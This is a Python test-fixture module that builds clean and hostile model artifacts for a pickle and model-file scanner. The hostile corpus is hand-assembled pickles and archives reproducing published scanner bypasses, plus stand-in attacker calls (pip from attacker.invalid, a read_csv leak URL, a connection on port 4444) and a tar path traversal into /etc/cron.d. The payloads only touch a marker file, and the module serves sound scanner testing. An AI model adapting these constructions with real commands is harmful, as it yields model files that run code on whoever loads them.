"""The artifact-scanner test corpus, built at test time into a temp dir (nothing binary is committed).

``build_clean_corpus`` writes genuine models the way people and MLflow write them; ``TECHNIQUES`` lists hostile
artifacts, most of them published bypasses of blocklist pickle scanners (each cites its issue or advisory).
Every hostile payload would only ``touch`` a marker file, and the tests assert that marker never appears:
nothing here is ever unpickled.
"""
from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# ---------------------------------------------------------------------------------------------------------------
# A tiny pickle assembler (opcodes from the pickle module itself).
# ---------------------------------------------------------------------------------------------------------------


def proto(n: int) -> bytes:
    return pickle.PROTO + bytes([n])


def s(text: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE when longer than 255 bytes)."""
    data = text.encode("utf-8")
    if len(data) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def glob(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def sglob(module: str, name: str) -> bytes:
    return s(module) + s(name) + pickle.STACK_GLOBAL


def call(callable_ops: bytes, *args: bytes) -> bytes:
    """callable(*args) via MARK ... TUPLE REDUCE."""
    return callable_ops + pickle.MARK + b"".join(args) + pickle.TUPLE + pickle.REDUCE


def command(marker: Path) -> str:
    return f"touch {marker}"


class Evil:
    """An object whose pickle runs ``os.system`` (the classic). Only ever dumped, never loaded."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return os.system, (command(self.marker),)


# ---------------------------------------------------------------------------------------------------------------
# Clean corpus
# ---------------------------------------------------------------------------------------------------------------


def _sklearn_models():
    import numpy as np
    import pandas as pd
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import make_classification
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler

    X, y = make_classification(n_samples=120, n_features=6, random_state=0)
    df = pd.DataFrame(X[:, :3], columns=["a", "b", "c"])
    df["colour"] = np.where(y == 1, "red", "blue")
    df["when"] = pd.date_range("2024-01-01", periods=len(df), freq="h", tz="Europe/Paris")
    pipeline = Pipeline([
        ("prep", ColumnTransformer([("num", StandardScaler(), ["a", "b", "c"]),
                                    ("cat", OneHotEncoder(handle_unknown="ignore"), ["colour"])])),
        ("model", RandomForestClassifier(n_estimators=5, random_state=0)),
    ]).fit(df[["a", "b", "c", "colour"]], y)
    return {
        "logreg": LogisticRegression(max_iter=200).fit(X, y),
        "forest": RandomForestClassifier(n_estimators=10, random_state=0).fit(X, y),
        "hgb": HistGradientBoostingClassifier(max_iter=5).fit(X, y),
        "pipeline": pipeline,
        "log_pipeline": make_pipeline(FunctionTransformer(np.log1p), StandardScaler(),
                                      LogisticRegression()).fit(abs(X), y),
        "frame": df,
    }


def build_clean_corpus(root: Path) -> dict[str, int]:
    """Genuine artifacts: pickle (protocols 0-5), joblib (plain and compressed), cloudpickle, numpy, pandas,
    and MLflow model directories in each sklearn serialization format. Returns counts by kind."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # MLflow's "pickle is unsafe" and pip-version warnings
        return _build_clean_corpus(root)


def _build_clean_corpus(root: Path) -> dict[str, int]:
    import cloudpickle
    import joblib
    import numpy as np

    root.mkdir(parents=True, exist_ok=True)
    models = _sklearn_models()
    counts: dict[str, int] = {}

    def bump(kind: str) -> None:
        counts[kind] = counts.get(kind, 0) + 1

    for name, obj in models.items():
        for protocol in (0, 2, 4, 5):
            (root / f"{name}.p{protocol}.pkl").write_bytes(pickle.dumps(obj, protocol=protocol))
            bump("pickle")
        joblib.dump(obj, root / f"{name}.joblib")
        joblib.dump(obj, root / f"{name}.zlib.joblib", compress=3)
        joblib.dump(obj, root / f"{name}.gz.joblib", compress=("gzip", 3))
        joblib.dump(obj, root / f"{name}.xz.joblib", compress=("xz", 3))
        counts["joblib"] = counts.get("joblib", 0) + 4
        (root / f"{name}.cloudpickle.pkl").write_bytes(cloudpickle.dumps(obj))
        bump("cloudpickle")
    np.save(root / "weights.npy", np.arange(12, dtype=np.float32).reshape(3, 4))
    np.save(root / "labels.npy", np.array([{"label": "cat"}, None], dtype=object), allow_pickle=True)
    np.savez_compressed(root / "arrays.npz", a=np.ones(4), b=np.array(["x", "yz"]))
    counts["numpy"] = 3
    (root / "frame.csv").write_text("a,b\n1,2\n")
    (root / "README.md").write_text("cats and dogs\nimport os\n")
    (root / "random.bin").write_bytes(bytes(range(256)) * 64)

    import mlflow.sklearn

    for fmt in ("skops", "cloudpickle", "pickle"):
        for name in ("logreg", "forest", "pipeline"):
            # skops 0.16 no longer trusts sklearn's Tree by default (its node indices are not bounds-checked),
            # so tree models saved as skops must name it, as MLflow's docs say.
            trusted = ["sklearn.tree._tree.Tree"] if fmt == "skops" and name != "logreg" else None
            mlflow.sklearn.save_model(models[name], root / f"mlflow_{fmt}_{name}", serialization_format=fmt,
                                      skops_trusted_types=trusted,
                                      pip_requirements=["scikit-learn", "cloudpickle", "skops"])
            bump(f"mlflow-{fmt}")
    return counts


# ---------------------------------------------------------------------------------------------------------------
# Hostile corpus
# ---------------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Technique:
    """One hostile artifact: how to build it, where it was published, and what each scanner says."""

    key: str
    title: str
    source: str  # issue/advisory URL, or "modelplane" for a trick found while building this scanner
    build: Callable[[Path, Path], None]  # (directory to write into, marker path the payload would create)
    expect_codes: tuple[str, ...]  # our scanner must report a high/critical finding with one of these codes
    modelscan: str  # what modelscan alone reports: "caught", "error only" (no issue), "missed"
    picklescan: str  # what picklescan alone reports: "caught", "suspicious only", "error only", "missed"

    @property
    def published(self) -> bool:
        return self.source.startswith("https://")


def _write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def _pickle_file(name: str, body: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
    return lambda d, marker: _write(d / name, body(marker))


def _os_system(marker: Path) -> bytes:
    return proto(4) + call(sglob("posix", "system"), s(command(marker))) + pickle.STOP


def _classic(d: Path, marker: Path) -> None:
    _write(d / "model.pkl", pickle.dumps(Evil(marker), protocol=4))


def _inst_protocol0(marker: Path) -> bytes:
    # https://github.com/protectai/modelscan/issues/51 : INST (protocol 0) imports *and* calls in one opcode.
    return b"(S'" + command(marker).encode() + b"'\nios\nsystem\n."


def _pkgutil_resolve_name(marker: Path) -> bytes:
    # GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name("os:system") reaches any blocked function through one unblocked one.
    resolved = call(sglob("pkgutil", "resolve_name"), s("os:system"))
    return proto(4) + resolved + pickle.MARK + s(command(marker)) + pickle.TUPLE + pickle.REDUCE + pickle.STOP


def _timeit(marker: Path) -> bytes:
    # GHSA-v7x6-rv5q-mhwc: timeit.timeit(stmt) compiles and runs stmt.
    stmt = f"__import__('os').system({command(marker)!r})"
    return proto(4) + call(sglob("timeit", "timeit"), s(stmt), s("pass")) + pickle.STOP


def _ensurepip(marker: Path) -> bytes:
    # GHSA-xp4f-hrf8-rxw7: ensurepip._run_pip(args) runs pip in-process (installing any package runs its code).
    args = pickle.EMPTY_LIST + pickle.MARK + s("install") + s("--index-url") + s("http://attacker.invalid/") + \
        s("evil-package") + pickle.APPENDS
    return proto(4) + call(sglob("ensurepip", "_run_pip"), args) + pickle.STOP


def _cprofile_runctx(marker: Path) -> bytes:
    # GHSA-9w88-8rmg-7g2p: cProfile.runctx(cmd, globals, locals) executes cmd.
    cmd = f"import os; os.system({command(marker)!r})"
    return proto(4) + call(sglob("cProfile", "runctx"), s(cmd), pickle.EMPTY_DICT, pickle.EMPTY_DICT) + pickle.STOP


def _mlflow_entry_point(marker: Path) -> bytes:
    # https://github.com/protectai/modelscan/issues/338 (1): MLflow itself ships a shell runner.
    return proto(4) + call(sglob("mlflow.projects.backend.local", "_run_entry_point"), s(command(marker)), s("."),
                           s(""), s("")) + pickle.STOP


def _pandas_read_csv(marker: Path) -> bytes:
    # https://github.com/protectai/modelscan/issues/338 (1): exfiltration through a data-science package a
    # prefix allowlist ("pandas.*") would let through.
    return proto(4) + call(sglob("pandas.io.parsers.readers", "read_csv"),
                           s("http://attacker.invalid/leak?host=model-server")) + pickle.STOP


def _numpy_f2py(marker: Path) -> bytes:
    # https://github.com/trailofbits/fickling/pull/210 : numpy.f2py's Fortran parser eval()s its argument, so
    # "numpy.*" is not a safe prefix either.
    expr = f"__import__('os').system({command(marker)!r})"
    return proto(4) + call(sglob("numpy.f2py.crackfortran", "_eval_length"), s(expr), pickle.EMPTY_DICT) + pickle.STOP


def _numpy_builtins_build(marker: Path) -> bytes:
    # https://github.com/protectai/modelscan/issues/330 : only "numpy" globals; BUILD plants numpy.__builtins__
    # into numpy.size's attributes, then getattr-by-REDUCE reaches eval. Rebuilt opcode by opcode from the issue.
    return (
        proto(4)
        + sglob("numpy", "size") + pickle.MEMOIZE + pickle.MEMOIZE          # memo 0, 1 = numpy.size
        + sglob("numpy", "__builtins__") + pickle.MEMOIZE + pickle.MEMOIZE  # memo 2, 3 = numpy.__builtins__
        + pickle.BINGET + b"\x01" + pickle.EMPTY_DICT + pickle.EMPTY_DICT + s("shape") + pickle.BINGET + b"\x03"
        + pickle.SETITEM + pickle.TUPLE2 + pickle.BUILD
        + pickle.BINGET + b"\x01" + pickle.BINGET + b"\x01" + s("eval") + pickle.TUPLE2 + pickle.REDUCE
        + s(f"__import__('os').system({command(marker)!r})") + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP
    )


def _numpy_prod_memo(marker: Path) -> bytes:
    # https://github.com/protectai/modelscan/issues/85 : BUILD stores "os"/"system" as attributes of numpy.prod,
    # dotted GLOBALs read them back, PUT/GET hide them from a scanner that memoizes opcode *arguments*.
    u = lambda text: pickle.UNICODE + text.encode() + b"\n"
    return (
        proto(5) + glob("numpy", "prod")
        + pickle.NONE + pickle.MARK + u("a") + u("os") + pickle.DICT + pickle.TUPLE2 + pickle.BUILD
        + pickle.NONE + pickle.MARK + u("b") + u("system") + pickle.DICT + pickle.TUPLE2 + pickle.BUILD
        + pickle.POP
        + glob("numpy", "prod.a") + pickle.PUT + b"0\n" + glob("numpy", "prod.b") + pickle.PUT + b"1\n"
        + pickle.POP + pickle.POP
        + pickle.GET + b"0\n" + pickle.GET + b"1\n" + pickle.STACK_GLOBAL
        + u(command(marker)) + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP
    )


def _importlib_methodcaller(marker: Path) -> bytes:
    # https://github.com/protectai/modelscan/issues/331 (importlib.import_module is not blocklisted) combined with
    # operator.methodcaller (https://github.com/trailofbits/fickling/pull/210, GHSA-m273-6v24-x4m4): no getattr.
    os_module = call(sglob("importlib", "import_module"), s("os"))
    caller = call(sglob("operator", "methodcaller"), s("system"), s(command(marker)))
    return proto(4) + caller + pickle.MARK + os_module + pickle.TUPLE + pickle.REDUCE + pickle.STOP


def _truncated_after_payload(marker: Path) -> bytes:
    # https://github.com/trailofbits/fickling/pull/139 and modelscan#338 (5): the payload runs, then an invalid
    # opcode makes the scanner's parser give up (an error, not an issue) while pickle.load has already executed.
    return proto(4) + call(sglob("posix", "system"), s(command(marker))) + b"\xff\xfe garbage"


def _joblib_zlib(d: Path, marker: Path) -> None:
    import joblib

    # modelscan reads .joblib files as raw pickles; joblib's compressed files are zlib streams.
    joblib.dump({"model": Evil(marker)}, d / "model.joblib", compress=3)


def _joblib_after_array(d: Path, marker: Path) -> None:
    import joblib
    import numpy as np

    # joblib writes array bytes inline after a placeholder: genops-based scanners stop at the first array.
    joblib.dump({"weights": np.arange(64, dtype=np.float64), "hook": Evil(marker)}, d / "model.joblib")


def _nonstandard_extension(d: Path, marker: Path) -> None:
    # GHSA-769v-p64c-89pr: scanners that choose by extension skip a pickle named otherwise (.sav is what
    # scikit-learn's own docs once used).
    _write(d / "model.sav", pickle.dumps(Evil(marker), protocol=2))


def _zip_bad_crc(d: Path, marker: Path) -> None:
    # CVE-2025-10156 (https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/): a PyTorch-style
    # zip whose data.pkl has a wrong CRC; CRC-checking readers raise, torch.load does not check.
    buf = io.BytesIO()
    payload = pickle.dumps(Evil(marker), protocol=2)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", payload)
        zf.writestr("archive/version", "3\n")
    data = bytearray(buf.getvalue())
    crc = struct.pack("<I", zipfile.crc32(payload) & 0xFFFFFFFF)
    bad = struct.pack("<I", (zipfile.crc32(payload) ^ 0xDEADBEEF) & 0xFFFFFFFF)
    data = bytearray(bytes(data).replace(crc, bad))
    _write(d / "model.pt", bytes(data))


def _compat_commands(marker: Path) -> bytes:
    # Protocol < 3 pickles go through _compat_pickle: "commands" is renamed "subprocess" by pickle.load itself.
    return proto(2) + glob("commands", "getoutput") + pickle.MARK + s(command(marker)) + pickle.TUPLE + \
        pickle.REDUCE + pickle.STOP


def _npz_object(d: Path, marker: Path) -> None:
    import numpy as np

    # An object array inside an .npz: its member .npy carries a pickle (numpy.load(allow_pickle=True)).
    np.savez(d / "arrays.npz", w=np.ones(3), meta=np.array([Evil(marker)], dtype=object))


def _sklearn_reexport(marker: Path) -> bytes:
    # A prefix allowlist ("sklearn.*") passes sklearn.callback._transport.Client, which is
    # multiprocessing.connection.Client re-exported: it connects out to an attacker-chosen address.
    return proto(4) + call(sglob("sklearn.callback._transport", "Client"),
                           pickle.MARK + s("attacker.invalid") + pickle.BININT2 + struct.pack("<H", 4444)
                           + pickle.TUPLE) + pickle.STOP


def _stack_global_computed(marker: Path) -> bytes:
    # STACK_GLOBAL whose operands are computed by allowed calls (str("os")): no string constant to check.
    os_name = call(sglob("builtins", "str"), s("os"))
    system = call(sglob("builtins", "str"), s("system"))
    return proto(4) + os_name + system + pickle.STACK_GLOBAL + pickle.MARK + s(command(marker)) + pickle.TUPLE + \
        pickle.REDUCE + pickle.STOP


def _cloudpickle_lambda(d: Path, marker: Path) -> None:
    import cloudpickle
    from sklearn.preprocessing import FunctionTransformer

    cmd = command(marker)
    # A function defined here is pickled *by value*: the model file carries bytecode.
    transformer = FunctionTransformer(lambda x: __import__("os").system(cmd) or x)  # never called
    _write(d / "model.pkl", cloudpickle.dumps(transformer))


def _skops_operator(d: Path, marker: Path) -> None:
    import operator

    import skops.io as sio

    sio.dump({"hook": operator.methodcaller("system", command(marker))}, d / "model.skops")


def _mlmodel_code(d: Path, marker: Path) -> None:
    (d / "code").mkdir(parents=True)
    (d / "code" / "sklearn.py").write_text(f"import os\nos.system({command(marker)!r})\n")
    (d / "MLmodel").write_text(
        "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.skops\n"
        "    code: code\n    env:\n      virtualenv: python_env.yaml\n  sklearn:\n    code: code\n"
        "    pickled_model: model.skops\n    serialization_format: skops\n"
    )


def _tar_traversal(d: Path, marker: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        data = b"harmless"
        info = tarfile.TarInfo("../../etc/cron.d/model")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    _write(d / "model.tar.gz", buf.getvalue())


TECHNIQUES: tuple[Technique, ...] = (
    Technique("classic_reduce", "os.system via __reduce__ (baseline)", "baseline",
              _classic, ("pickle.global_not_allowed",), "caught", "caught"),
    Technique("inst_protocol0", "protocol-0 INST opcode (import + call in one opcode)",
              "https://github.com/protectai/modelscan/issues/51",
              _pickle_file("model.pkl", _inst_protocol0), ("pickle.global_not_allowed",), "caught", "caught"),
    Technique("pkgutil_resolve_name", "pkgutil.resolve_name('os:system') then call the result",
              "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-vvpj-8cmc-gx39",
              _pickle_file("model.pkl", _pkgutil_resolve_name), ("pickle.global_not_allowed",), "missed", "caught"),
    Technique("timeit", "timeit.timeit(stmt) runs code",
              "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-v7x6-rv5q-mhwc",
              _pickle_file("model.pkl", _timeit), ("pickle.global_not_allowed",), "missed", "caught"),
    Technique("ensurepip_run_pip", "ensurepip._run_pip installs a package from an attacker index",
              "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-xp4f-hrf8-rxw7",
              _pickle_file("model.pkl", _ensurepip), ("pickle.global_not_allowed",), "missed", "caught"),
    Technique("cprofile_runctx", "cProfile.runctx(cmd, {}, {}) runs code",
              "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-9w88-8rmg-7g2p",
              _pickle_file("model.pkl", _cprofile_runctx), ("pickle.global_not_allowed",), "missed", "caught"),
    Technique("mlflow_run_entry_point", "mlflow.projects.backend.local._run_entry_point runs a shell command",
              "https://github.com/protectai/modelscan/issues/338",
              _pickle_file("model.pkl", _mlflow_entry_point), ("pickle.global_not_allowed",), "missed", "suspicious only"),
    Technique("pandas_read_csv", "pandas read_csv(url) exfiltrates from the model server",
              "https://github.com/protectai/modelscan/issues/338",
              _pickle_file("model.pkl", _pandas_read_csv), ("pickle.global_not_allowed",), "missed", "suspicious only"),
    Technique("numpy_f2py_eval", "numpy.f2py.crackfortran._eval_length eval()s its argument",
              "https://github.com/trailofbits/fickling/pull/210",
              _pickle_file("model.pkl", _numpy_f2py), ("pickle.global_not_allowed",), "missed", "caught"),
    Technique("numpy_builtins_build", "BUILD on numpy.size + numpy.__builtins__ -> eval",
              "https://github.com/protectai/modelscan/issues/330",
              _pickle_file("model.pkl", _numpy_builtins_build),
              ("pickle.build_on_global", "pickle.global_not_allowed"), "missed", "suspicious only"),
    Technique("numpy_prod_memo", "BUILD on numpy.prod + dotted GLOBAL + PUT/GET memo -> os.system",
              "https://github.com/protectai/modelscan/issues/85",
              _pickle_file("model.pkl", _numpy_prod_memo),
              ("pickle.build_on_global", "pickle.global_unresolvable"), "missed", "suspicious only"),
    Technique("importlib_methodcaller", "importlib.import_module('os') + operator.methodcaller('system')",
              "https://github.com/protectai/modelscan/issues/331",
              _pickle_file("model.pkl", _importlib_methodcaller),
              ("pickle.global_not_allowed", "pickle.dynamic_call"), "missed", "caught"),
    Technique("truncated_after_payload", "payload, then an invalid opcode (parser gives up, pickle already ran)",
              "https://github.com/trailofbits/fickling/pull/139",
              _pickle_file("model.pkl", _truncated_after_payload),
              ("pickle.global_not_allowed", "pickle.unparseable"), "error only", "caught"),
    Technique("nonstandard_extension", "pickle named model.sav (extension-based scanners skip it)",
              "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-769v-p64c-89pr",
              _nonstandard_extension, ("pickle.global_not_allowed",), "missed", "missed"),
    Technique("zip_bad_crc", "PyTorch-style zip whose data.pkl fails its CRC",
              "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/",
              _zip_bad_crc, ("archive.bad_crc", "pickle.global_not_allowed"), "missed", "caught"),
    Technique("joblib_zlib", "joblib file compressed with zlib (compress=3)", "modelplane",
              _joblib_zlib, ("pickle.global_not_allowed",), "error only", "missed"),
    Technique("joblib_after_array", "joblib file: payload after the first numpy array", "modelplane",
              _joblib_after_array, ("pickle.global_not_allowed",), "error only", "error only"),
    Technique("compat_commands", "protocol 2 'commands.getoutput' (pickle renames it subprocess.getoutput)",
              "modelplane", _pickle_file("model.pkl", _compat_commands), ("pickle.global_not_allowed",), "missed", "caught"),
    Technique("npz_object_array", "object array inside an .npz carrying the payload", "modelplane",
              _npz_object, ("pickle.global_not_allowed",), "error only", "caught"),
    Technique("sklearn_reexport", "sklearn.callback._transport.Client (multiprocessing re-export)", "modelplane",
              _pickle_file("model.pkl", _sklearn_reexport), ("pickle.global_not_allowed",), "missed", "suspicious only"),
    Technique("stack_global_computed", "STACK_GLOBAL with names computed by str() calls", "modelplane",
              _pickle_file("model.pkl", _stack_global_computed), ("pickle.global_unresolvable",), "caught", "caught"),
    Technique("cloudpickle_lambda", "cloudpickle of a lambda (bytecode by value)", "modelplane",
              _cloudpickle_lambda, ("pickle.global_not_allowed",), "missed", "caught"),
    Technique("skops_operator", "skops file rebuilding operator.methodcaller('system', ...)", "modelplane",
              _skops_operator, ("skops.type_not_allowed",), "missed", "missed"),
    Technique("mlmodel_code_path", "MLmodel code path shadowing 'sklearn' with a Python file", "modelplane",
              _mlmodel_code, ("mlmodel.code_path",), "missed", "missed"),
    Technique("tar_path_traversal", "tar member named ../../etc/cron.d/model", "modelplane",
              _tar_traversal, ("archive.path_traversal",), "missed", "missed"),
)


def build_hostile_corpus(root: Path, marker: Path) -> None:
    for technique in TECHNIQUES:
        directory = root / technique.key
        directory.mkdir(parents=True, exist_ok=True)
        technique.build(directory, marker)


def write_json(path: Path, data: object) -> None:
    path.write_text(json.dumps(data, indent=2))
